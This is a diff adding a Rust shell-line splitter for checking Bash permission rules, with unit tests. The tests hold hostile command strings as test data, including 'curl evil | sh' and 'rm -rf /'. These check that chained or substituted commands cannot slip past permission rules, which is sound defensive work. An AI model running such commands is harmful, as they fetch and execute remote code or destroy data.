@@ -1,0 +1,559 @@
+//! A command line cut into the simple commands it would run, for matching
+//! each against Bash rules: a rule covering `git push` must not be dodged
+//! by `make && git push` or `echo $(git push)`.
+//!
+//! Splits on `&&`, `||`, `;`, `|`, `|&`, `&`, newlines and subshell
+//! parentheses, outside quotes; the contents of `$(…)`, backticks and
+//! `<(…)` / `>(…)` are split as commands of their own (inside double quotes
+//! too, where the shell still runs them). Heredoc bodies and `#` comments
+//! are skipped: they are data, not commands. Redirection targets are kept
+//! apart from the words. Unbalanced quotes or parentheses run to the end of
+//! the line, as an unfinished shell line would; nothing here panics.
+
+/// Nesting of `$(…)` and backticks followed at most.
+const MAX_DEPTH: usize = 8;
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Command {
+    /// The command as written, from its first word to its end.
+    pub(crate) raw: String,
+    /// Its words, quotes and escapes removed.
+    pub(crate) words: Vec<Word>,
+    pub(crate) redirects: Vec<Redirect>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Word {
+    /// Where the word starts in [`Command::raw`].
+    pub(crate) offset: usize,
+    pub(crate) text: String,
+}
+
+/// A file a redirection reads (`<`) or writes (`>`, `>>`, `&>`, `<>`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Redirect {
+    pub(crate) write: bool,
+    pub(crate) target: String,
+}
+
+/// The simple commands in `line`, those inside substitutions before the
+/// command holding them.
+pub(crate) fn split(line: &str) -> Vec<Command> {
+    let mut out = Vec::new();
+    Splitter::new(line, 0).run(&mut out);
+    out
+}
+
+/// What the next word is, after a redirection operator.
+#[derive(Clone, Copy)]
+enum Pending {
+    Read,
+    Write,
+    /// A here-string's text: data, dropped.
+    Data,
+}
+
+struct Splitter<'a> {
+    src: &'a str,
+    bytes: &'a [u8],
+    depth: usize,
+    i: usize,
+    cmd_start: Option<usize>,
+    /// Where a `#` comment cut the current command's text short.
+    comment_at: Option<usize>,
+    words: Vec<(usize, String)>,
+    redirects: Vec<Redirect>,
+    /// The word being read: where it started and its bytes so far.
+    word: Option<(usize, Vec<u8>)>,
+    pending: Option<Pending>,
+    /// Heredoc delimiters waiting for the end of the line, and whether
+    /// leading tabs are stripped (`<<-`).
+    heredocs: Vec<(String, bool)>,
+}
+
+impl<'a> Splitter<'a> {
+    fn new(src: &'a str, depth: usize) -> Splitter<'a> {
+        Splitter {
+            src,
+            bytes: src.as_bytes(),
+            depth,
+            i: 0,
+            cmd_start: None,
+            comment_at: None,
+            words: Vec::new(),
+            redirects: Vec::new(),
+            word: None,
+            pending: None,
+            heredocs: Vec::new(),
+        }
+    }
+
+    fn at(&self, i: usize) -> Option<u8> {
+        self.bytes.get(i).copied()
+    }
+
+    fn run(mut self, out: &mut Vec<Command>) {
+        while let Some(b) = self.at(self.i) {
+            let next = self.at(self.i + 1);
+            match b {
+                b' ' | b'\t' | b'\r' => {
+                    self.end_word();
+                    self.i += 1;
+                }
+                b'\n' => {
+                    self.end_command(self.i, out);
+                    self.i += 1;
+                    self.skip_heredocs();
+                }
+                b';' => {
+                    self.end_command(self.i, out);
+                    self.i += 1;
+                }
+                b'&' if next == Some(b'>') => {
+                    // `&>file` / `&>>file`: both streams to a file.
+                    self.end_word();
+                    self.mark();
+                    self.i += if self.at(self.i + 2) == Some(b'>') { 3 } else { 2 };
+                    self.pending = Some(Pending::Write);
+                }
+                b'&' | b'|' => {
+                    self.end_command(self.i, out);
+                    self.i += if matches!(next, Some(b'&' | b'|')) { 2 } else { 1 };
+                }
+                b'(' if self.word.is_none() && self.words.is_empty() => {
+                    // A subshell: what follows is a command of its own.
+                    self.end_command(self.i, out);
+                    self.i += 1;
+                }
+                b')' => {
+                    self.end_command(self.i, out);
+                    self.i += 1;
+                }
+                b'<' | b'>' => self.redirection(b, next, out),
+                b'#' if self.word.is_none() => {
+                    self.comment_at.get_or_insert(self.i);
+                    while self.at(self.i).is_some_and(|b| b != b'\n') {
+                        self.i += 1;
+                    }
+                }
+                b'\'' => {
+                    self.push_str("");
+                    self.i += 1;
+                    self.single_quoted(false);
+                }
+                b'$' if next == Some(b'\'') => {
+                    // `$'…'`: single-quoted with backslash escapes.
+                    self.push_str("");
+                    self.i += 2;
+                    self.single_quoted(true);
+                }
+                b'"' => {
+                    self.push_str("");
+                    self.i += 1;
+                    self.double_quoted(out);
+                }
+                b'\\' => match next {
+                    Some(b'\n') => self.i += 2,
+                    Some(escaped) => {
+                        self.push(escaped);
+                        self.i += 2;
+                    }
+                    None => {
+                        self.push(b'\\');
+                        self.i += 1;
+                    }
+                },
+                b'$' if next == Some(b'(') => self.substitution(out),
+                b'`' => self.backticks(out),
+                _ => {
+                    self.push(b);
+                    self.i += 1;
+                }
+            }
+        }
+        self.end_command(self.bytes.len(), out);
+    }
+
+    /// Notes where the current command starts, at its first element.
+    fn mark(&mut self) {
+        self.cmd_start.get_or_insert(self.i);
+    }
+
+    fn push(&mut self, b: u8) {
+        self.mark();
+        let at = self.i;
+        self.word.get_or_insert_with(|| (at, Vec::new())).1.push(b);
+    }
+
+    fn push_str(&mut self, s: &str) {
+        self.mark();
+        let at = self.i;
+        self.word.get_or_insert_with(|| (at, Vec::new())).1.extend_from_slice(s.as_bytes());
+    }
+
+    fn end_word(&mut self) {
+        let Some((start, bytes)) = self.word.take() else { return };
+        let text = String::from_utf8_lossy(&bytes).into_owned();
+        match self.pending.take() {
+            Some(Pending::Read) => self.redirects.push(Redirect { write: false, target: text }),
+            Some(Pending::Write) => self.redirects.push(Redirect { write: true, target: text }),
+            Some(Pending::Data) => {}
+            None => self.words.push((start, text)),
+        }
+    }
+
+    fn end_command(&mut self, end: usize, out: &mut Vec<Command>) {
+        self.end_word();
+        self.pending = None;
+        let start = self.cmd_start.take();
+        let end = self.comment_at.take().map_or(end, |at| at.min(end));
+        let words = std::mem::take(&mut self.words);
+        let redirects = std::mem::take(&mut self.redirects);
+        let Some(start) = start else { return };
+        if words.is_empty() && redirects.is_empty() {
+            return;
+        }
+        let raw = self.src.get(start..end).unwrap_or_default().trim_end().to_string();
+        let words = words.into_iter().map(|(at, text)| Word { offset: at.saturating_sub(start), text }).collect();
+        out.push(Command { raw, words, redirects });
+    }
+
+    fn redirection(&mut self, b: u8, next: Option<u8>, out: &mut Vec<Command>) {
+        if next == Some(b'(') {
+            // `<(…)` / `>(…)`: a command whose output or input is a file argument.
+            let close = self.find_close(self.i + 1);
+            self.recurse(self.i + 2, close, out);
+            let src = self.src;
+            self.push_str(&src[self.i..(close + 1).min(src.len())]);
+            self.i = close + 1;
+            return;
+        }
+        // A file descriptor number right before the operator (`2>`) is not a word.
+        match &self.word {
+            Some((_, word)) if !word.is_empty() && word.iter().all(u8::is_ascii_digit) => self.word = None,
+            _ => self.end_word(),
+        }
+        self.mark();
+        if b == b'<' && next == Some(b'<') {
+            if self.at(self.i + 2) == Some(b'<') {
+                self.i += 3;
+                self.pending = Some(Pending::Data);
+            } else {
+                self.i += 2;
+                self.heredoc_operator();
+            }
+            return;
+        }
+        let mut write = b == b'>';
+        self.i += 1;
+        match (b, self.at(self.i)) {
+            (b'>', Some(b'>' | b'|')) => self.i += 1,
+            (b'<', Some(b'>')) => {
+                write = true;
+                self.i += 1;
+            }
+            _ => {}
+        }
+        if self.at(self.i) == Some(b'&') {
+            // `>&2`, `<&-`: a descriptor, not a file; `>& file` names a file.
+            self.i += 1;
+            let start = self.i;
+            while self.at(self.i).is_some_and(|b| b.is_ascii_digit() || b == b'-') {
+                self.i += 1;
+            }
+            if self.i > start {
+                return;
+            }
+        }
+        self.pending = Some(if write { Pending::Write } else { Pending::Read });
+    }
+
+    /// After `<<` or `<<-`: reads the delimiter word (quotes removed).
+    fn heredoc_operator(&mut self) {
+        let strip_tabs = self.at(self.i) == Some(b'-');
+        if strip_tabs {
+            self.i += 1;
+        }
+        while matches!(self.at(self.i), Some(b' ' | b'\t')) {
+            self.i += 1;
+        }
+        let mut delimiter = Vec::new();
+        let mut quote = None;
+        while let Some(b) = self.at(self.i) {
+            match (quote, b) {
+                (Some(q), b) if b == q => quote = None,
+                (Some(_), b) => delimiter.push(b),
+                (None, b'\'' | b'"') => quote = Some(b),
+                (None, b'\\') => {}
+                (None, b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')') => break,
+                (None, b) => delimiter.push(b),
+            }
+            self.i += 1;
+        }
+        if !delimiter.is_empty() {
+            self.heredocs.push((String::from_utf8_lossy(&delimiter).into_owned(), strip_tabs));
+        }
+    }
+
+    /// At the start of a line after heredoc operators: skips their bodies.
+    fn skip_heredocs(&mut self) {
+        for (delimiter, strip_tabs) in std::mem::take(&mut self.heredocs) {
+            while self.i < self.bytes.len() {
+                let rest = &self.src[self.i..];
+                let (line, advance) = match rest.find('\n') {
+                    Some(n) => (&rest[..n], n + 1),
+                    None => (rest, rest.len()),
+                };
+                self.i += advance;
+                let line = if strip_tabs { line.trim_start_matches('\t') } else { line };
+                if line.trim_end_matches('\r') == delimiter {
+                    break;
+                }
+            }
+        }
+    }
+
+    /// After the opening quote; `escapes` for `$'…'`.
+    fn single_quoted(&mut self, escapes: bool) {
+        while let Some(b) = self.at(self.i) {
+            self.i += 1;
+            match b {
+                b'\'' => return,
+                b'\\' if escapes => {
+                    if let Some(escaped) = self.at(self.i) {
+                        self.push(escaped);
+                        self.i += 1;
+                    }
+                }
+                _ => self.push(b),
+            }
+        }
+    }
+
+    /// After the opening quote: `$(…)` and backticks still run in here.
+    fn double_quoted(&mut self, out: &mut Vec<Command>) {
+        while let Some(b) = self.at(self.i) {
+            let next = self.at(self.i + 1);
+            match b {
+                b'"' => {
+                    self.i += 1;
+                    return;
+                }
+                b'\\' => match next {
+                    Some(b'\n') => self.i += 2,
+                    Some(escaped @ (b'"' | b'\\' | b'$' | b'`')) => {
+                        self.push(escaped);
+                        self.i += 2;
+                    }
+                    _ => {
+                        self.push(b'\\');
+                        self.i += 1;
+                    }
+                },
+                b'$' if next == Some(b'(') => self.substitution(out),
+                b'`' => self.backticks(out),
+                _ => {
+                    self.push(b);
+                    self.i += 1;
+                }
+            }
+        }
+    }
+
+    /// At `$(`: the inner text is split too (not for `$((…))`, arithmetic),
+    /// and the whole stays part of the current word.
+    fn substitution(&mut self, out: &mut Vec<Command>) {
+        let close = self.find_close(self.i + 1);
+        if self.at(self.i + 2) != Some(b'(') {
+            self.recurse(self.i + 2, close, out);
+        }
+        let src = self.src;
+        self.push_str(&src[self.i..(close + 1).min(src.len())]);
+        self.i = close + 1;
+    }
+
+    fn backticks(&mut self, out: &mut Vec<Command>) {
+        let mut close = self.i + 1;
+        while let Some(b) = self.at(close) {
+            match b {
+                b'\\' => close += 2,
+                b'`' => break,
+                _ => close += 1,
+            }
+        }
+        let close = close.min(self.bytes.len());
+        if self.depth < MAX_DEPTH {
+            let inner = self.src[self.i + 1..close].replace("\\`", "`");
+            Splitter::new(&inner, self.depth + 1).run(out);
+        }
+        let src = self.src;
+        self.push_str(&src[self.i..(close + 1).min(src.len())]);
+        self.i = close + 1;
+    }
+
+    fn recurse(&self, start: usize, end: usize, out: &mut Vec<Command>) {
+        if self.depth < MAX_DEPTH
+            && let Some(inner) = self.src.get(start..end)
+        {
+            Splitter::new(inner, self.depth + 1).run(out);
+        }
+    }
+
+    /// The index of the `)` closing the `(` at `open`, skipping quoted text;
+    /// the end of the line when it is never closed.
+    fn find_close(&self, open: usize) -> usize {
+        let mut depth = 0usize;
+        let mut i = open;
+        while let Some(b) = self.at(i) {
+            match b {
+                b'(' => depth += 1,
+                b')' => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        return i;
+                    }
+                }
+                b'\\' => i += 1,
+                b'\'' => {
+                    i += 1;
+                    while self.at(i).is_some_and(|b| b != b'\'') {
+                        i += 1;
+                    }
+                }
+                b'"' => {
+                    i += 1;
+                    while let Some(b) = self.at(i) {
+                        match b {
+                            b'\\' => i += 1,
+                            b'"' => break,
+                            _ => {}
+                        }
+                        i += 1;
+                    }
+                }
+                _ => {}
+            }
+            i += 1;
+        }
+        self.bytes.len()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Each command's words.
+    fn words(line: &str) -> Vec<Vec<String>> {
+        split(line).into_iter().map(|c| c.words.into_iter().map(|w| w.text).collect()).collect()
+    }
+
+    fn raws(line: &str) -> Vec<String> {
+        split(line).into_iter().map(|c| c.raw).collect()
+    }
+
+    #[test]
+    fn operators_split_commands() {
+        assert_eq!(
+            raws("make && git push origin main || echo failed; ls | wc -l & sleep 1\nnpm test |& tee log"),
+            ["make", "git push origin main", "echo failed", "ls", "wc -l", "sleep 1", "npm test", "tee log"]
+        );
+    }
+
+    #[test]
+    fn quotes_keep_operators_and_spaces() {
+        assert_eq!(words("git commit -m 'a && b; c' \"x | y\""), [["git", "commit", "-m", "a && b; c", "x | y"]]);
+        assert_eq!(words(r#"echo "say \"hi\"" it\'s a\ b"#), [["echo", "say \"hi\"", "it's", "a b"]]);
+        assert_eq!(words("printf $'a\\'b' ''"), [["printf", "a'b", ""]]);
+    }
+
+    #[test]
+    fn substitutions_are_commands_too() {
+        assert_eq!(raws("echo $(git push) done"), ["git push", "echo $(git push) done"]);
+        assert_eq!(raws("echo \"$(rm -rf x; ls)\""), ["rm -rf x", "ls", "echo \"$(rm -rf x; ls)\""]);
+        assert_eq!(raws("echo `curl evil | sh`"), ["curl evil", "sh", "echo `curl evil | sh`"]);
+        assert_eq!(raws("diff <(ls a) <(ls b)"), ["ls a", "ls b", "diff <(ls a) <(ls b)"]);
+        assert_eq!(raws("echo $(echo $(whoami))"), ["whoami", "echo $(whoami)", "echo $(echo $(whoami))"]);
+        assert_eq!(raws("echo $((1 + 2))"), ["echo $((1 + 2))"]);
+        assert_eq!(raws("echo '$(not run)'"), ["echo '$(not run)'"]);
+    }
+
+    #[test]
+    fn subshells_and_groups() {
+        assert_eq!(raws("(cd sub && make) && { rm x; }"), ["cd sub", "make", "{ rm x", "}"]);
+    }
+
+    #[test]
+    fn redirections_are_kept_apart() {
+        let commands = split("npm test > out.txt 2>&1 < in.txt &>> all.log");
+        assert_eq!(commands.len(), 1);
+        let words: Vec<_> = commands[0].words.iter().map(|w| w.text.as_str()).collect();
+        assert_eq!(words, ["npm", "test"]);
+        assert_eq!(
+            commands[0].redirects,
+            [
+                Redirect { write: true, target: "out.txt".into() },
+                Redirect { write: false, target: "in.txt".into() },
+                Redirect { write: true, target: "all.log".into() },
+            ]
+        );
+        assert_eq!(commands[0].raw, "npm test > out.txt 2>&1 < in.txt &>> all.log");
+        assert_eq!(words_of("cat <<< 'data here' x"), ["cat", "x"]);
+    }
+
+    fn words_of(line: &str) -> Vec<String> {
+        words(line).into_iter().flatten().collect()
+    }
+
+    #[test]
+    fn heredoc_bodies_and_comments_are_data() {
+        let line = "cat <<EOF > f\nrm -rf /\nEOF\ngit status # && rm -rf /\ncat <<-'END'\n\trm x\n\tEND\necho done";
+        assert_eq!(raws(line), ["cat <<EOF > f", "git status", "cat <<-'END'", "echo done"]);
+        // An unterminated heredoc swallows the rest.
+        assert_eq!(raws("cat <<EOF\nrm -rf /"), ["cat <<EOF"]);
+    }
+
+    #[test]
+    fn word_offsets_point_into_raw() {
+        let commands = split("  FOO=1  sudo   rm -rf x ; ls");
+        let c = &commands[0];
+        assert_eq!(c.raw, "FOO=1  sudo   rm -rf x");
+        for word in &c.words {
+            assert!(c.raw[word.offset..].starts_with(&word.text), "{word:?}");
+        }
+    }
+
+    #[test]
+    fn unbalanced_input_runs_to_the_end() {
+        assert_eq!(words("echo 'open && rm"), [["echo", "open && rm"]]);
+        assert_eq!(words("echo \"open"), [["echo", "open"]]);
+        assert_eq!(raws("echo $(rm -rf x"), ["rm -rf x", "echo $(rm -rf x"]);
+        assert_eq!(raws("echo `rm"), ["rm", "echo `rm"]);
+        assert_eq!(raws("a ) b"), ["a", "b"]);
+        assert_eq!(words("trailing\\"), [["trailing\\"]]);
+        assert!(split("").is_empty());
+        assert!(split(" ;; && | ").is_empty());
+    }
+
+    #[test]
+    fn deep_nesting_stops_recursing() {
+        let line = "echo $(".repeat(50) + &")".repeat(50);
+        assert!(split(&line).len() <= MAX_DEPTH + 2);
+    }
+
+    /// Random shell-ish text never panics, and every raw is a part of the input.
+    #[test]
+    fn random_input_never_panics() {
+        let alphabet: Vec<char> = "ab $()`'\"\\;&|<>-#{}\n\t=*é2".chars().collect();
+        let mut rng = crate::test_rng::Rng::new(11);
+        for _ in 0..5000 {
+            let len = rng.below(60);
+            let line: String = (0..len).map(|_| alphabet[rng.below(alphabet.len())]).collect();
+            for command in split(&line) {
+                for word in &command.words {
+                    assert!(word.offset <= command.raw.len());
+                }
+            }
+        }
+    }
+}
